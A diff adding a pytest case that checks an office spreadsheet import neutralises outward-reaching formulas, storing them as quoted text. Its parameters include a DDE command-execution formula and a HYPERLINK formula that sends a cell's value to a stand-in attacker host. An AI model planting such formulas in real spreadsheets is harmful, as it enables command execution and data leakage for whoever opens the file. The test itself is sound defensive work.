@@ -230,6 +230,25 @@ def test_the_copy_with_comments_can_be_mended_and_taken_in(office: Office) -> No
     assert ",41," in office.lines("plans/2026.csv")[1]
 
 
+@pytest.mark.parametrize(
+    ("formula", "kept"),
+    [
+        ("=cmd|'/c calc'!A1", False),
+        ('=HYPERLINK("https://evil.example/"&A1)', False),
+        ("=[other.xlsx]Sheet1!A1", False),
+        ("=A1&B1", True),
+    ],
+)
+def test_a_formula_that_reaches_out_is_text_in_the_copy(
+    office: Office, formula: str, kept: bool
+) -> None:
+    file = office.edited(lambda book: put(book[PLAN], 3, direction=formula))
+    assert office.take_in(file)[0] == 1
+    copy = load_workbook(file.with_name(f"{file.stem}-有问题.xlsx"))
+    cells = [cell for row in copy[PLAN].iter_rows() for cell in row if cell.value == formula]
+    assert [(cell.data_type == "f", bool(cell.quotePrefix)) for cell in cells] == [(kept, not kept)]
+
+
 READ_AS: list[tuple[str, object, str]] = [
     ("seats", "４１", ",41,"),
     ("seats", " 41 ", ",41,"),
